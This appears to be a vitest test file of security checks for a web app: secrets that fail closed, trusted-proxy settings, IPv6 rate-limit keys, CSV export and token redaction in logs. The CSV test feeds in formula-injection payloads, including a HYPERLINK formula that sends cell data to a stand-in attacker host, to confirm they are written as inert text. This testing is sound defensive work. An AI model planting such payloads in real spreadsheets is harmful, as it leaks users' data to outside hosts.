// The settings that must fail closed (issue 29): secrets outside development, the proxies we
// believe, per-address limit keys, CSV cells and log lines. Pure functions, no servers.
import { describe, expect, it } from 'vitest';
import { DEV_CONSENT_LINK_SECRET, DEV_SESSION_SECRET, loadConfig } from '../../platform/config.js';
import { clientAddressKey, trustProxyOf } from '../../platform/client-address.js';
import { inertCell, writeCsv } from '../../platform/csv.js';
import { redactedUrl } from '../../platform/logger.js';

const REAL = {
  CONSENT_LINK_SECRET: 'a-real-consent-link-secret-of-enough-length',
  SESSION_SECRET: 'a-real-session-secret-of-enough-length-too',
  CAPTCHA_VERIFY_URL: 'https://captcha.example/verify',
  CAPTCHA_SECRET: 'captcha-secret',
};

describe('secrets fail closed (finding 5)', () => {
  it.each([['unset', {}], ['prod', { NODE_ENV: 'prod' }], ['staging', { NODE_ENV: 'staging' }], ['production', { NODE_ENV: 'production' }]])(
    'NODE_ENV %s without real secrets: the API and the worker refuse to start', (_name, env) => {
      expect(() => loadConfig(env, 'api')).toThrow(/CONSENT_LINK_SECRET[\s\S]*SESSION_SECRET[\s\S]*CAPTCHA/);
      expect(() => loadConfig(env, 'worker')).toThrow(/CONSENT_LINK_SECRET/);
    },
  );

  it('the published dev secrets are refused by name, and plain-HTTP cookies too', () => {
    expect(() => loadConfig({ ...REAL, CONSENT_LINK_SECRET: DEV_CONSENT_LINK_SECRET }, 'api')).toThrow(/CONSENT_LINK_SECRET/);
    expect(() => loadConfig({ ...REAL, SESSION_SECRET: DEV_SESSION_SECRET }, 'api')).toThrow(/SESSION_SECRET/);
    expect(() => loadConfig({ ...REAL, SESSION_COOKIE_SECURE: 'false' }, 'api')).toThrow(/SESSION_COOKIE_SECURE/);
  });

  it('real secrets start; L2L_DEVELOPMENT=true (never NODE_ENV) allows the dev ones; tools need none', () => {
    expect(loadConfig(REAL, 'api')).toMatchObject({ development: false, CONSENT_LINK_SECRET: REAL.CONSENT_LINK_SECRET });
    expect(loadConfig({ L2L_DEVELOPMENT: 'true' }, 'api')).toMatchObject({ development: true, SESSION_SECRET: DEV_SESSION_SECRET });
    expect(() => loadConfig({ NODE_ENV: 'development' }, 'api')).toThrow(/refusing to start/);
    expect(loadConfig({}, 'tool').development).toBe(false);
  });
});

describe('behind a proxy (finding 7)', () => {
  it('TRUST_PROXY names the proxies or a hop count; never everything', () => {
    expect(trustProxyOf(undefined)).toBe(false);
    expect(trustProxyOf('')).toBe(false);
    expect(trustProxyOf('1')).toBe(1);
    expect(trustProxyOf('10.0.0.5, 10.0.1.0/24')).toBe('10.0.0.5,10.0.1.0/24');
    expect(trustProxyOf('loopback')).toBe('loopback');
    expect(() => trustProxyOf('true')).toThrow(/trusting every address/);
    expect(() => trustProxyOf('*')).toThrow(/trusting every address/);
    expect(() => trustProxyOf('0')).toThrow(/hop count/);
    expect(() => trustProxyOf('proxy.internal')).toThrow(/not an address/);
    expect(() => loadConfig({ TRUST_PROXY: 'true' }, 'tool')).toThrow(/TRUST_PROXY/);
  });

  it('per-address limits group IPv6 by /64 and read IPv4-mapped addresses as IPv4', () => {
    expect(clientAddressKey('2001:db8:1:2:aaaa::1')).toBe('2001:0db8:0001:0002::/64');
    expect(clientAddressKey('2001:db8:1:2:ffff:ffff:ffff:fffe')).toBe('2001:0db8:0001:0002::/64');
    expect(clientAddressKey('2001:db8:1:3::1')).not.toBe(clientAddressKey('2001:db8:1:2::1'));
    expect(clientAddressKey('::ffff:203.0.113.9')).toBe('203.0.113.9');
    expect(clientAddressKey('203.0.113.9')).toBe('203.0.113.9');
    expect(clientAddressKey('::1')).toBe('0000:0000:0000:0000::/64');
  });
});

describe('CSV cells never run as formulas (finding 4)', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('%j is written as text', (cell) => {
    expect(inertCell(cell)).toBe(`'${cell}`);
    const csv = writeCsv([[cell, 3]], ['value', 'n']);
    expect(csv.split('\n')[1]!.replace(/^"|"$/g, '')).toMatch(/^'/);
  });
  it('ordinary text and numbers (negative ones too) stay as they are', () => {
    expect(writeCsv([['ID.7', -3, 0.5, null]])).toBe('ID.7,-3,0.5,\n');
  });
});

describe('tokens never reach the logs (finding 6)', () => {
  it('redacts credentials in URLs and keeps the rest', () => {
    expect(redactedUrl('/v1/consents/confirm?token=eyJhbGciOi.payload.sig')).toBe('/v1/consents/confirm?token=[redacted]');
    expect(redactedUrl('/v1/unsubscribe?x=1&token=abc&y=2')).toBe('/v1/unsubscribe?x=1&token=[redacted]&y=2');
    expect(redactedUrl('/v1/leads?source=FAIR')).toBe('/v1/leads?source=FAIR');
  });
});
